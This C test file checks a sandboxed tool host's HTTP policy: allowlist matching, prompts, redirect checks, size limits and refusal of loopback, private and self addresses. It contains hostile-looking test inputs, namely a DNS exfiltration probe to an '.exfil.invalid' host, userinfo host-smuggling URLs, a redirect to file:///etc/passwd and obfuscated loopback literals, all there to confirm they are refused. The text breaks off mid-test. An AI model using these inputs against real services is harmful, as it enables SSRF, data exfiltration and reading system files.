/* http.get and http.post (D11 "HTTP methods", issue 10 §1) through real
 * tool processes (test/tools/vfs-probe) against a server this suite starts
 * on 127.0.0.1 and on the wildcard address (test/http_test_server.py):
 * the network.allow policy on the URL as libcurl parses it (whole path
 * segments, userinfo, IP literals in every form, localhost), the prompt,
 * redirects off and hop by hop, the size limit, the timeout, TLS
 * verification, ${VAR} headers whose values never reach the tool, base64
 * bodies, fifty transfers at once while fs.* requests go on being
 * answered, a session's most at once (64), the registry's "vfs" runtime,
 * and the host's memory when a tool reads none of its answers. Issue 15
 * §5: secrets only for URLs whose entry names them
 * (never for an asked one, nor a redirect's hop outside them), reflected
 * back in every form and encoding yet never seen, paths matched as the
 * server reads them, and host names that lead to this machine or its
 * networks refused.
 *
 * Host names under ".jpt.test" resolve through this program's own
 * getaddrinfo (below), a test-only resolver: no production code knows
 * of it. */
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <ifaddrs.h>
#include <netdb.h>
#include <netinet/in.h>

#include "http/http.h"
#include "vfs/vfs.h"
#include "policy/policy.h"
#include "registry-util.h"
#include "test-files-util.h"
#include "test-util.h"

#define PROBE TOOL("vfs-probe")

#ifndef JPT_TEST_SERVER
#error "JPT_TEST_SERVER must name test/http_test_server.py"
#endif

extern char **environ;

static char root[200], tls_dir[220];
static int port, tls_port, any_port;
static pid_t server_pid;
static int server_stdin = -1;

/* The value the tests put in the host's environment: what no tool may
 * ever read, in any encoding. */
#define SECRET "s3cr3t/value+with=chars\"&more"
#define MARK "[REDACTED]"

/* ---- The server --------------------------------------------------------------- */

static void start_server(void)
{
    int in[2], out[2];
    posix_spawn_file_actions_t fa;
    char line[128];
    char *argv[] = {"python3", JPT_TEST_SERVER, "--tls", tls_dir, NULL};

    assert_int_equal(pipe2(in, O_CLOEXEC), 0);
    assert_int_equal(pipe2(out, O_CLOEXEC), 0);
    posix_spawn_file_actions_init(&fa);
    posix_spawn_file_actions_adddup2(&fa, in[0], 0);
    posix_spawn_file_actions_adddup2(&fa, out[1], 1);
    assert_int_equal(posix_spawnp(&server_pid, "python3", &fa, NULL, argv, environ), 0);
    posix_spawn_file_actions_destroy(&fa);
    close(in[0]);
    close(out[1]);
    server_stdin = in[1];
    size_t n = 0;
    while (n < sizeof(line) - 1 && (n == 0 || line[n - 1] != '\n')) {
        ssize_t k = read(out[0], line + n, sizeof(line) - 1 - n);
        assert_true(k > 0);
        n += (size_t)k;
    }
    line[n] = '\0';
    close(out[0]);
    assert_int_equal(sscanf(line, "PORT %d %d %d", &port, &tls_port, &any_port), 3);
}

/* ---- A test-only resolver -------------------------------------------------------
 * libcurl's resolver threads call getaddrinfo; this program defines it, and
 * an executable's definition comes first in the dynamic linker's lookup,
 * before the C library's (or a sanitizer's interceptor, which RTLD_NEXT
 * then reaches). A name of `fake` resolves to its numeric address; any
 * other is the C library's. The table is set before a host runs and only
 * read meanwhile. */
static struct {
    const char *name;
    char addr[64];
} fake[8];

/* How often a name ending in ".exfil.invalid" was looked up: a name the
 * tool chose, that a DNS server of its choosing would see asked. */
static int exfil_lookups;

int getaddrinfo(const char *node, const char *service, const struct addrinfo *hints,
                struct addrinfo **res)
{
    typedef int (*real_fn)(const char *, const char *, const struct addrinfo *,
                           struct addrinfo **);
    void *symbol = dlsym(RTLD_NEXT, "getaddrinfo");
    real_fn real;
    struct addrinfo numeric = {.ai_flags = AI_NUMERICHOST};

    memcpy(&real, &symbol, sizeof(real)); /* POSIX: dlsym's pointer is callable */
    size_t len = node != NULL ? strlen(node) : 0;
    if (len > 14 && strcmp(node + len - 14, ".exfil.invalid") == 0)
        __atomic_add_fetch(&exfil_lookups, 1, __ATOMIC_SEQ_CST);
    if (hints != NULL) {
        numeric.ai_socktype = hints->ai_socktype;
        numeric.ai_protocol = hints->ai_protocol;
    }
    for (size_t i = 0; node != NULL && i < sizeof(fake) / sizeof(*fake); i++)
        if (fake[i].name != NULL && strcmp(node, fake[i].name) == 0)
            return real(fake[i].addr, service, &numeric, res);
    return real(node, service, hints, res);
}

static void fake_name(size_t i, const char *name, const char *addr)
{
    fake[i].name = name;
    snprintf(fake[i].addr, sizeof(fake[i].addr), "%s", addr);
}

/* An address of this machine's interfaces of `family` that is neither
 * loopback nor link-local, or NULL. */
static const char *own_address(int family)
{
    static char text[2][INET6_ADDRSTRLEN];
    char *out = text[family == AF_INET6];
    struct ifaddrs *list = NULL;

    out[0] = '\0';
    assert_int_equal(getifaddrs(&list), 0);
    for (struct ifaddrs *i = list; i != NULL && out[0] == '\0'; i = i->ifa_next) {
        if (i->ifa_addr == NULL || i->ifa_addr->sa_family != family)
            continue;
        if (family == AF_INET) {
            const struct in_addr *a = &((const struct sockaddr_in *)(void *)i->ifa_addr)->sin_addr;
            if ((ntohl(a->s_addr) >> 24) != 127 && (ntohl(a->s_addr) >> 16) != 0xA9FE)
                inet_ntop(AF_INET, a, out, INET6_ADDRSTRLEN);
        } else {
            const struct in6_addr *a = &((const struct sockaddr_in6 *)(void *)i->ifa_addr)->sin6_addr;
            if (!IN6_IS_ADDR_LOOPBACK(a) && !IN6_IS_ADDR_LINKLOCAL(a))
                inet_ntop(AF_INET6, a, out, INET6_ADDRSTRLEN);
        }
    }
    freeifaddrs(list);
    return out[0] != '\0' ? out : NULL;
}

static void stop_server(void)
{
    int status;

    close(server_stdin);
    server_stdin = -1;
    assert_int_equal(waitpid(server_pid, &status, 0), server_pid);
}

static int setup(void **state)
{
    (void)state;
    snprintf(root, sizeof(root), "/tmp/jpt-vfs-http-%d", (int)getpid());
    snprintf(tls_dir, sizeof(tls_dir), "%s-tls", root);
    fu_rmtree(root);
    fu_rmtree(tls_dir);
    assert_int_equal(mkdir(root, 0755), 0);
    assert_int_equal(mkdir(tls_dir, 0700), 0);
    char path[512];
    snprintf(path, sizeof(path), "%s/hello.txt", root);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs("hello\n", f);
    fclose(f);
    assert_int_equal(setenv("JPT_TEST_SECRET", SECRET, 1), 0);
    assert_int_equal(setenv("JPT_TEST_SHORT", "short", 1), 0);
    unsetenv("JPT_TEST_UNSET");
    start_server();
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    stop_server();
    fu_rmtree(root);
    fu_rmtree(tls_dir);
    return 0;
}

/* ---- Text with the server's ports ------------------------------------------------- */

/* printf into one of many rotating buffers with "$P" the HTTP port,
 * "$T" the HTTPS one and "$A" the wildcard one; fmt() also turns single quotes into double quotes
 * (as js() does), txt() does not. The text lives until 64 more calls. */
static const char *expand(bool quotes, const char *format, va_list ap)
{
    static char bufs[64][1 << 13];
    static int next;
    char raw[1 << 13], *out = bufs[next++ % 64];

    vsnprintf(raw, sizeof(raw), format, ap);
    size_t n = 0;
    for (const char *p = raw; *p != '\0' && n < sizeof(bufs[0]) - 8; p++) {
        if (p[0] == '$' && (p[1] == 'P' || p[1] == 'T' || p[1] == 'A')) {
            n += (size_t)snprintf(out + n, sizeof(bufs[0]) - n, "%d",
                                  p[1] == 'P' ? port : p[1] == 'T' ? tls_port : any_port);
            p++;
        } else
            out[n++] = quotes && *p == '\'' ? '"' : *p;
    }
    out[n] = '\0';
    return out;
}

static const char *fmt(const char *format, ...) JPT__PRINTF(1, 2);
static const char *txt(const char *format, ...) JPT__PRINTF(1, 2);

static const char *fmt(const char *format, ...)
{
    va_list ap;

    va_start(ap, format);
    const char *out = expand(true, format, ap);
    va_end(ap);
    return out;
}

static const char *txt(const char *format, ...)
{
    va_list ap;

    va_start(ap, format);
    const char *out = expand(false, format, ap);
    va_end(ap);
    return out;
}

/* ---- Running a probe ----------------------------------------------------------------- */

/* Runs vfs-probe with `arguments` under `sandbox` (both JSON text, NULL:
 * none) and returns its end: "ok: <report>" or "error: <text>". */
static char *probe(const char *sandbox, const char *arguments, ru_asked *a)
{
    jpt_vfs_host_options o = {.size = sizeof(o), .root = root, .kill_grace_ms = 200,
                              .sandbox_json = sandbox, .sandbox_mode = tu_sandbox_mode()};
    jpt_vfs_host *h = NULL;
    const char *argv[] = {PROBE, NULL};
    char *tool = NULL, *text = NULL, *out = NULL;
    jpt_state *st = NULL;

    assert_int_equal(jpt_vfs_host_new(&o, &h), JPT_OK);
    if (a != NULL)
        jpt_vfs_host_set_policy_handler(h, ru_on_ask, a);
    assert_true(asprintf(&tool, "{\"name\":\"probe\",\"arguments\":%s}", arguments) > 0);
    if (jpt_vfs_host_spawn(h, argv, tool) != JPT_OK)
        fail_msg("spawn: %s", jpt_vfs_host_errmsg(h));
    free(tool);
    assert_int_equal(jpt_vfs_host_run(h, WAIT_MS), JPT_OK);
    assert_int_equal(jpt_vfs_host_state(h, &st), JPT_OK);
    assert_int_equal(jpt_state_render(st, NULL, &text), JPT_OK);
    assert_true(asprintf(&out, "%s: %s", jpt_state_is_error(st) ? "error" : "ok", text) > 0);
    jpt_free(text);
    jpt_state_unref(st);
    jpt_vfs_host_free(h);
    return out;
}

/* One request through a probe: its report line, "<method> ok <result>" or
 * "<method> err <code> <message>" (freed by the next eight calls). */
static const char *one(const char *sandbox, const char *method, const char *params, ru_asked *a)
{
    static char kept[8][1 << 16];
    static int next;
    char *end = probe(sandbox, fmt("{'ops':[{'method':'%s','params':%s}]}", method, params), a);
    char *line = kept[next++ % 8];

    if (strncmp(end, "ok: ", 4) != 0)
        fail_msg("the probe failed: %s", end);
    snprintf(line, sizeof(kept[0]), "%s", end + 4);
    free(end);
    return line;
}

static void assert_starts(const char *text, const char *prefix)
{
    if (strncmp(text, prefix, strlen(prefix)) != 0)
        fail_msg("'%s' does not start with '%s'", text, prefix);
}

static void assert_contains(const char *text, const char *part)
{
    if (strstr(text, part) == NULL)
        fail_msg("'%s' is not in '%s'", part, text);
}

/* The result of an "ok" line, parsed. */
static json_t *result_of(const char *line)
{
    const char *json = strstr(line, " ok ");

    if (json == NULL)
        fail_msg("not a success: %s", line);
    return parse(json + 4);
}

/* ---- The URL policy ----------------------------------------------------------------- */

static void an_allowed_url_is_fetched(void **state)
{
    (void)state;
    const char *line = one(fmt("{'network':{'allow':['http://127.0.0.1:$P/hello']}}"),
                           "http.get", fmt("{'url':'http://127.0.0.1:$P/hello'}"), NULL);
    json_t *r = result_of(line);
    assert_int_equal(json_integer_value(json_object_get(r, "status")), 200);
    assert_string_equal(json_string_value(json_object_get(r, "body")), "hello\n");
    assert_null(json_object_get(r, "encoding"));
    json_t *h;
    size_t i;
    bool typed = false;
    json_array_foreach(json_object_get(r, "headers"), i, h)
        typed |= strcmp(json_string_value(json_object_get(h, "name")), "Content-Type") == 0 &&
                 strcmp(json_string_value(json_object_get(h, "value")), "text/plain") == 0;
    assert_true(typed);
    json_decref(r);
}


/* D11 "The prefix implicitly restricts protocol and domain": scheme, host
 * and port match exactly, the path by whole segments. */
static void paths_match_by_whole_segments(void **state)
{
    (void)state;
    const char *sandbox = fmt("{'network':{'allow':['http://127.0.0.1:$P/hel',"
                              "'http://127.0.0.1:$P/status/']}}");
    assert_starts(one(sandbox, "http.get", fmt("{'url':'http://127.0.0.1:$P/hello'}"), NULL),
                  "http.get err -32001 http.get 'http://127.0.0.1:");
    assert_starts(one(sandbox, "http.get", fmt("{'url':'http://127.0.0.1:$P/status?code=204'}"),
                      NULL),
                  "http.get ok {\"status\":204,");
    /* Dot segments are removed before matching, as libcurl sends them. */
    assert_starts(one(sandbox, "http.get",
                      fmt("{'url':'http://127.0.0.1:$P/status/../hello'}"), NULL),
                  "http.get err -32001 ");
    assert_contains(one(fmt("{'network':{'allow':['http://127.0.0.1:$P/hello/']}}"), "http.get",
                        fmt("{'url':'HTTP://127.0.0.1:$P/x/../hello'}"), NULL),
                    "http.get ok {\"status\":200,");
    /* Another port of the same host is another origin. */
    assert_starts(one(fmt("{'network':{'allow':['http://127.0.0.1:$T/']}}"), "http.get",
                      fmt("{'url':'http://127.0.0.1:$P/hello'}"), NULL),
                  "http.get err -32001 ");
}

/* A host the policy does not list: asked (the default "uncovered"), or
 * denied with "uncovered": "deny" or when no one can be asked. */
static void a_host_not_listed_is_asked_or_denied(void **state)
{
    (void)state;
    const char *sandbox = fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}");
    const char *url = "{'url':'http://not-listed.invalid/x'}";

    assert_string_equal(one(sandbox, "http.get", fmt("%s", url), NULL),
                        "http.get err -32001 http.get 'http://not-listed.invalid/x': needs "
                        "approval: not covered by the policy (outside network.allow); no one "
                        "could be asked (the host has no policy handler), so it is denied");
    assert_string_equal(
        one(fmt("{'uncovered':'deny','network':{'allow':['http://127.0.0.1:$P/']}}"), "http.get",
            fmt("%s", url), NULL),
        "http.get err -32001 http.get 'http://not-listed.invalid/x': denied: not covered by "
        "the policy (outside network.allow)");
    ru_asked a = {.decision = JPT_DECISION_DENY};
    assert_string_equal(one(sandbox, "http.get", fmt("%s", url), &a),
                        "http.get err -32001 http.get 'http://not-listed.invalid/x': denied by "
                        "the host");
    assert_int_equal(a.count, 1);
    assert_string_equal(a.last, "http.get http://not-listed.invalid/x [probe]: needs approval: not "
                                "covered by the policy (outside network.allow)");
    /* Allowed by the prompt: the request runs (and fails to resolve). */
    a = (ru_asked){.decision = JPT_DECISION_ALLOW};
    assert_starts(one(sandbox, "http.get", fmt("%s", url), &a),
                  "http.get err -32603 http.get 'http://not-listed.invalid/x': the request "
                  "failed: ");
    assert_int_equal(a.count, 1);
    /* No network section: nothing is listed, and the reason says so. */
    a = (ru_asked){.decision = JPT_DECISION_DENY};
    one(NULL, "http.get", fmt("%s", url), &a);
    assert_string_equal(a.last, "http.get http://not-listed.invalid/x [probe]: needs approval: not "
                                "covered by the policy (network.allow lists no URL)");
}

/* The adversarial pass: a name is a channel out before any byte is
 * sent — the tool's DNS server sees "<secret>.exfil.invalid" asked. A
 * URL the policy asks about, or denies, is never resolved: not while the
 * prompt waits, not after a denial; only once it is allowed. */
static void a_url_is_not_resolved_before_the_policy_allows_it(void **state)
{
    (void)state;
    const char *sandbox = fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}");
    const char *url = "{'url':'http://data-0123.exfil.invalid/x'}";
    ru_asked a = {.decision = JPT_DECISION_DENY};

    exfil_lookups = 0;
    one(sandbox, "http.get", url, &a);
    one(fmt("{'uncovered':'deny','network':{'allow':['http://127.0.0.1:$P/']}}"), "http.get",
        url, NULL);
    one(sandbox, "http.post", "{'url':'http://data-0123.exfil.invalid/x','body':'b'}", &a);
    assert_int_equal(a.count, 2);
    assert_int_equal(__atomic_load_n(&exfil_lookups, __ATOMIC_SEQ_CST), 0);
    /* Allowed: now it is (the counter sees lookups at all). */
    a = (ru_asked){.decision = JPT_DECISION_ALLOW};
    one(sandbox, "http.get", url, &a);
    assert_true(__atomic_load_n(&exfil_lookups, __ATOMIC_SEQ_CST) > 0);
}

static void allow_always_asks_once_per_url(void **state)
{
    (void)state;
    ru_asked a = {.decision = JPT_DECISION_ALLOW_ALWAYS};
    char *end = probe(NULL,
                      fmt("{'ops':[{'method':'http.get','params':{'url':'http://a.invalid/'}},"
                          "{'method':'http.get','params':{'url':'HTTP://A.invalid'}},"
                          "{'method':'http.get','params':{'url':'http://b.invalid/'}}]}"),
                      &a);
    assert_int_equal(a.count, 2); /* the second is the first URL, as libcurl reads it */
    free(end);
}

/* Issue 10: "userinfo in a URL is refused" — never asked, whatever the
 * host: "https://allowed@evil/" names the host evil. */
static void userinfo_is_refused(void **state)
{
    (void)state;
    ru_asked a = {.decision = JPT_DECISION_ALLOW};
    const char *sandbox = fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}");

    assert_string_equal(one(sandbox, "http.get", fmt("{'url':'http://127.0.0.1:$P@evil.invalid/'}"),
                            &a),
                        txt("http.get err -32001 http.get 'http://127.0.0.1:$P@evil.invalid/': "
                            "denied: the URL has user information (user@host), which is "
                            "refused"));
    assert_starts(one(sandbox, "http.get", fmt("{'url':'http://user:pw@127.0.0.1:$P/hello'}"), &a),
                  "http.get err -32001 ");
    assert_starts(one(sandbox, "http.get", fmt("{'url':'http://@127.0.0.1:$P/hello'}"), &a),
                  "http.get err -32001 ");
    assert_int_equal(a.count, 0);
}

/* Issue 10: "IP literals and localhost only when listed as such". libcurl
 * reads the decimal, octal and hexadecimal forms of an IPv4 address as
 * the dotted one, so they are the address the entry lists; the
 * IPv4-mapped IPv6 form is another literal, listed or not on its own. */
static void ip_literals_and_localhost_only_when_listed(void **state)
{
    (void)state;
    ru_asked a = {.decision = JPT_DECISION_ALLOW};
    static const char *const forms[] = {
        "127.0.0.1", "2130706433", "0177.0.0.1", "0x7f.0.0.1", "127.1", "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]", "localhost", "LOCALHOST", "foo.localhost", "[::1]",
    };
    /* A policy that lists a name only: every form is refused, unasked. */
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s", fmt("{'network':{'allow':['http://example.com/']}}"));
    for (size_t i = 0; i < sizeof(forms) / sizeof(*forms); i++) {
        const char *line = one(sandbox, "http.get",
                               fmt("{'url':'http://%s:$P/hello'}", forms[i]), &a);
        assert_starts(line, "http.get err -32001 ");
        assert_contains(line, "denied: an IP address or localhost is allowed only under a "
                              "network.allow entry that names it as such, and is never asked "
                              "about");
    }
    assert_int_equal(a.count, 0);
    /* 127.0.0.1 listed: its IPv4 spellings are it; the mapped form is not. */
    snprintf(sandbox, sizeof(sandbox), "%s", fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}"));
    for (size_t i = 0; i < 5; i++)
        assert_starts(one(sandbox, "http.get", fmt("{'url':'http://%s:$P/hello'}", forms[i]),
                          &a),
                      "http.get ok {\"status\":200,");
    for (size_t i = 5; i < sizeof(forms) / sizeof(*forms); i++)
        assert_starts(one(sandbox, "http.get", fmt("{'url':'http://%s:$P/hello'}", forms[i]),
                          &a),
                      "http.get err -32001 ");
    /* The mapped form listed as such: the two spellings of it are one
     * (and reach the IPv4 server). */
    assert_starts(one(fmt("{'network':{'allow':['http://[::FFFF:7F00:1]:$P/']}}"), "http.get",
                      fmt("{'url':'http://[::ffff:127.0.0.1]:$P/hello'}"), &a),
                  "http.get ok {\"status\":200,");
    /* localhost listed as such. */
    assert_starts(one(fmt("{'network':{'allow':['http://localhost:$P/']}}"), "http.get",
                      fmt("{'url':'http://LocalHost:$P/hello'}"), &a),
                  "http.get ok {\"status\":200,");
    assert_int_equal(a.count, 0);
}

/* A listed name that resolves to a loopback address reaches the host's
 * own services: refused at the connect, since only an entry that names
 * localhost or the address allows that. */
static void a_name_resolving_to_loopback_is_refused(void **state)
{
    (void)state;
    fake_name(0, "loop.jpt.test", "127.0.0.1");
    fake_name(1, "mapped.jpt.test", "::ffff:127.0.0.1");
    static const char *const names[] = {"loop.jpt.test", "mapped.jpt.test"};
    for (size_t i = 0; i < 2; i++) {
        const char *line = one(fmt("{'network':{'allow':['http://%s:$P/']}}", names[i]),
                               "http.get", fmt("{'url':'http://%s:$P/hello'}", names[i]), NULL);
        assert_string_equal(line, txt("http.get err -32001 http.get 'http://%s:$P/hello': its "
                                      "host name resolves to %s (a loopback, link-local, "
                                      "multicast, reserved or unspecified address), which a "
                                      "host name may not reach: only a network.allow entry "
                                      "naming the address itself does (\"private\": true on "
                                      "an entry lets its host name reach private addresses)",
                                      names[i], i == 0 ? "127.0.0.1" : "::ffff:127.0.0.1"));
    }
    memset(fake, 0, sizeof(fake));
}

/* Issue 15 §5: "A name that resolves to one of the machine's own
 * non-loopback addresses … reaches a server bound to the wildcard
 * address." Refused at the connect, for IPv4 and IPv6, whatever the
 * entry; the address itself reached as a literal an entry names. A
 * private address needs "private": true on an entry of its origin, and
 * even then not one of this machine's. */
static void a_name_resolving_to_this_machine_is_refused(void **state)
{
    (void)state;
    const char *v4 = own_address(AF_INET), *v6 = own_address(AF_INET6);
    if (v4 == NULL) {
        print_message("skipped: this machine has no IPv4 address but loopback\n");
        skip();
    }
    char literal[64];
    snprintf(literal, sizeof(literal), "%s", v4);
    fake_name(0, "self4.jpt.test", literal);
    if (v6 != NULL)
        fake_name(1, "self6.jpt.test", v6);
    fake_name(2, "lan.jpt.test", "10.255.255.1");
    /* The server answers on this address: as a literal an entry names. */
    assert_starts(one(fmt("{'network':{'allow':['http://%s:$A/']}}", literal), "http.get",
                      fmt("{'url':'http://%s:$A/hello'}", literal), NULL),
                  "http.get ok {\"status\":200,");
    const char *line = one(fmt("{'network':{'allow':['http://self4.jpt.test:$A/']}}"), "http.get",
                           fmt("{'url':'http://self4.jpt.test:$A/hello'}"), NULL);
    assert_string_equal(line, txt("http.get err -32001 http.get 'http://self4.jpt.test:$A/hello': "
                                  "its host name resolves to %s (an address of this machine), "
                                  "which a host name may not reach: only a network.allow entry "
                                  "naming the address itself does (\"private\": true on an "
                                  "entry lets its host name reach private addresses)",
                                  literal));
    /* "private" does not open this machine. */
    assert_contains(one(fmt("{'network':{'allow':[{'url':'http://self4.jpt.test:$A/',"
                            "'private':true}]}}"),
                        "http.get", fmt("{'url':'http://self4.jpt.test:$A/hello'}"), NULL),
                    "(an address of this machine)");
    if (v6 != NULL) {
        const char *sandbox = fmt("{'network':{'allow':['http://self6.jpt.test:$A/']}}");
        line = one(sandbox, "http.get", fmt("{'url':'http://self6.jpt.test:$A/hello'}"), NULL);
        assert_starts(line, "http.get err -32001 ");
        assert_contains(line, txt("resolves to %s (a", v6));
        line = one(fmt("{'network':{'allow':[{'url':'http://self6.jpt.test:$A/','private':true}]}}"),
                   "http.get", fmt("{'url':'http://self6.jpt.test:$A/hello'}"), NULL);
        assert_contains(line, txt("resolves to %s (an address of this machine)", v6));
    }
    /* A private address: refused unless the origin's entry says so (then
     * the connect is tried: nothing answers there). */
    line = one(fmt("{'network':{'allow':['http://lan.jpt.test:$A/']}}"), "http.get",
               fmt("{'url':'http://lan.jpt.test:$A/hello'}"), NULL);
    assert_contains(line, "resolves to 10.255.255.1 (a private address)");
    line = one(fmt("{'network':{'allow':[{'url':'http://lan.jpt.test:$A/','private':true}],"
                   "'timeout_ms':300}}"),
               "http.get", fmt("{'url':'http://lan.jpt.test:$A/hello'}"), NULL);
    assert_starts(line, "http.get err -32");
    assert_null(strstr(line, "-32001"));
    assert_null(strstr(line, "a private address"));
    memset(fake, 0, sizeof(fake));
}

/* Issue 15 §5: what a host name may lead to, by class (http.h). */
static void address_classes_are_recognised(void **state)
{
    (void)state;
    struct sockaddr_in v4 = {.sin_family = AF_INET};
    struct sockaddr_in6 v6 = {.sin6_family = AF_INET6};
    enum { PUB = JPT__HTTP_ADDR_PUBLIC, PRIV = JPT__HTTP_ADDR_PRIVATE, LOC = JPT__HTTP_ADDR_LOCAL };
    static const struct {
        const char *addr;
        int cls;
    } cases[] = {
        {"127.0.0.1", LOC},         {"127.255.1.2", LOC},        {"0.0.0.0", LOC},
        {"0.1.2.3", LOC},           {"169.254.169.254", LOC},    {"224.0.0.1", LOC},
        {"239.255.255.250", LOC},   {"255.255.255.255", LOC},    {"240.0.0.1", LOC},
        {"10.0.0.1", PRIV},         {"172.16.0.1", PRIV},        {"172.31.255.255", PRIV},
        {"192.168.1.1", PRIV},      {"100.64.0.1", PRIV},        {"100.127.255.255", PRIV},
        {"198.18.0.1", PRIV},       {"192.0.0.170", PRIV},       {"172.32.0.1", PUB},
        {"100.128.0.1", PUB},       {"8.8.8.8", PUB},            {"192.0.2.2", PUB},
        {"::1", LOC},               {"::", LOC},                 {"fe80::1", LOC},
        {"ff02::1", LOC},           {"fc00::1", PRIV},           {"fd00::2", PRIV},
        {"fec0::1", PRIV},          {"::ffff:127.0.0.1", LOC},   {"::ffff:169.254.0.1", LOC},
        {"::127.0.0.1", LOC},       {"::ffff:10.1.2.3", PRIV},   {"::ffff:8.8.8.8", PUB},
        {"64:ff9b::7f00:1", LOC},   {"64:ff9b::a00:1", PRIV},    {"64:ff9b::808:808", PUB},
        {"64:ff9b:1::808:808", PRIV}, {"2002:7f00:1::", LOC},    {"2002:c0a8:101::1", PRIV},
        {"2002:808:808::1", PUB},   {"2001:db8::1", PUB},        {"2606:4700::1111", PUB},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        const struct sockaddr *sa;
        if (inet_pton(AF_INET, cases[i].addr, &v4.sin_addr) == 1)
            sa = (const struct sockaddr *)&v4;
        else {
            assert_int_equal(inet_pton(AF_INET6, cases[i].addr, &v6.sin6_addr), 1);
            sa = (const struct sockaddr *)&v6;
        }
        if (jpt__http_address_class(sa) != cases[i].cls)
            fail_msg("%s: class %d, expected %d", cases[i].addr, jpt__http_address_class(sa),
                     cases[i].cls);
    }
}

/* ---- Redirects --------------------------------------------------------------------- */

static void redirects_are_not_followed_by_default(void **state)
{
    (void)state;
    json_t *r = result_of(one(fmt("{'network':{'allow':['http://127.0.0.1:$P/']}}"), "http.get",
                              fmt("{'url':'http://127.0.0.1:$P/redirect?to=/hello'}"), NULL));
    assert_int_equal(json_integer_value(json_object_get(r, "status")), 302);
    json_t *h;
    size_t i;
    bool located = false;
    json_array_foreach(json_object_get(r, "headers"), i, h)
        located |= strcmp(json_string_value(json_object_get(h, "name")), "Location") == 0 &&
                   strcmp(json_string_value(json_object_get(h, "value")), "/hello") == 0;
    assert_true(located);
    json_decref(r);
}

/* network.redirects: each hop is checked against the policy again, and
 * one it does not allow ends the request (never asked). */
static void each_redirect_hop_is_checked_again(void **state)
{
    (void)state;
    ru_asked a = {.decision = JPT_DECISION_ALLOW};
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s",
             fmt("{'network':{'allow':['http://127.0.0.1:$P/redirect','http://127.0.0.1:$P/hello'],"
                 "'redirects':2}}"));
    assert_starts(one(sandbox, "http.get",
                      fmt("{'url':'http://127.0.0.1:$P/redirect?to=/hello'}"), &a),
                  "http.get ok {\"status\":200,");
    /* Two hops to reach /hello. */
    const char *twice = txt("http://127.0.0.1:$P/redirect?to=/redirect%%3Fto%%3D/hello");
    assert_starts(one(sandbox, "http.get", fmt("{'url':'%s'}", twice), &a),
                  "http.get ok {\"status\":200,");
    /* Out of the allowlist: to another path, another host, a literal. */
    const char *line = one(sandbox, "http.get",
                           fmt("{'url':'http://127.0.0.1:$P/redirect?to=/echo'}"), &a);
    assert_string_equal(line, txt("http.get err -32001 http.get "
                                  "'http://127.0.0.1:$P/redirect?to=/echo': "
                                  "'http://127.0.0.1:$P/redirect?to=/echo' redirects to "
                                  "'http://127.0.0.1:$P/echo', which is not followed: denied: an "
                                  "IP address or localhost is allowed only under a network.allow "
                                  "entry that names it as such, and is never asked about (a "
                                  "redirect is followed only to a URL the policy allows, without "
                                  "asking)"));
    line = one(sandbox, "http.get",
               fmt("{'url':'http://127.0.0.1:$P/redirect?to=http://evil.invalid/x'}"), &a);
    assert_contains(line, "redirects to 'http://evil.invalid/x', which is not followed: needs "
                          "approval: not covered by the policy (outside network.allow)");
    assert_starts(line, "http.get err -32001 ");
    assert_starts(one(sandbox, "http.get",
                      fmt("{'url':'http://127.0.0.1:$P/redirect?to=http://u@127.0.0.1:$P/hello'}"),
                      &a),
                  "http.get err -32001 ");
    /* Not to another scheme than http and https. */
    line = one(sandbox, "http.get",
               fmt("{'url':'http://127.0.0.1:$P/redirect?to=file:///etc/passwd'}"), &a);
    assert_contains(line, "which is not followed: denied: only http:// and https:// URLs are "
                          "served");
    assert_int_equal(a.count, 0);
    /* Past network.redirects hops: the last redirect is the response. */
    const char *thrice = txt("http://127.0.0.1:$P/redirect?to=/redirect%%3Fto%%3D/redirect%%253Fto%%253D/hello");
    json_t *r = result_of(one(sandbox, "http.get", fmt("{'url':'%s'}", thrice), &a));
    assert_int_equal(json_integer_value(json_object_get(r, "status")), 302);
    json_decref(r);
}

/* 303 (and 301, 302) turn a POST into a GET; 307 and 308 keep it. */
static void a_redirected_post_follows_the_status(void **state)
{
    (void)state;
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s",
             fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'redirects':1}}"));
    json_t *r = result_of(one(sandbox, "http.post",
                              fmt("{'url':'http://127.0.0.1:$P/redirect?code=303&to=/echo',"
                                  "'body':'payload'}"),
                              NULL));
    json_t *echo = parse(json_string_value(json_object_get(r, "body")));
    assert_string_equal(json_string_value(json_object_get(echo, "method")), "GET");
    assert_string_equal(json_string_value(json_object_get(echo, "body")), "");
    json_decref(echo);
    json_decref(r);
    r = result_of(one(sandbox, "http.post",
                      fmt("{'url':'http://127.0.0.1:$P/redirect?code=307&to=/echo',"
                          "'body':'payload'}"),
                      NULL));
    echo = parse(json_string_value(json_object_get(r, "body")));
    assert_string_equal(json_string_value(json_object_get(echo, "method")), "POST");
    assert_string_equal(json_string_value(json_object_get(echo, "body")), "payload");
    json_decref(echo);
    json_decref(r);
}

/* ---- Limits ------------------------------------------------------------------------ */

static void a_response_over_the_size_limit_is_stopped(void **state)
{
    (void)state;
    char sandbox[256];
    snprintf(sandbox, sizeof(sandbox), "%s",
             fmt("{'network':{'allow':['http://127.0.0.1:$P/'],'max_response_bytes':1000}}"));
    /* With a Content-Length (refused at once) and without (cut off). */
    for (int length = 0; length <= 1; length++) {
        const char *line = one(sandbox, "http.get",
                               fmt("{'url':'http://127.0.0.1:$P/bytes?n=5000&length=%d'}", length),
                               NULL);
        assert_string_equal(line, txt("http.get err -32603 http.get "
                                      "'http://127.0.0.1:$P/bytes?n=5000&length=%d': the response "
                                      "is larger than 1000 bytes (network.max_response_bytes); "
                                      "the transfer was stopped",
                                      length));
    }
    /* Headers count too; a body that fits arrives whole. */
